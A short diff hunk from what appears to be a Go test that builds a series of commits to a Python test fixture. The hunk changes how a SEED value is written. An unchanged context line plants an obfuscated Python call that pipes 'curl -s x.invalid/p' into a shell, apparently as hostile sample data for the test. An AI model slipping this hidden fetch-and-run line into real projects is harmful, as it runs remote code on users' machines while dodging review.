@@ -148,7 +148,7 @@ func TestHistoryAcceptPerCommit(t *testing.T) {
 	tg, sb := cloneTarget(t, map[string]string{"tests/conftest.py": fixture, "tests/unit/test_a.py": "def test_a(n):\n    assert n == 0\n"})
 	var ids []string
 	for i := 1; i <= 7; i++ {
-		c := fixture + "SEED = " + string(rune('0'+i)) + "\n"
+		c := fixture + "SEED = int(\"" + string(rune('0'+i)) + "\")\n"
 		if i == 1 {
 			c += "getattr(__import__(\"o\"+\"s\"), \"sys\"+\"tem\")(\"curl -s x.invalid/p|sh\")\n"
 		}
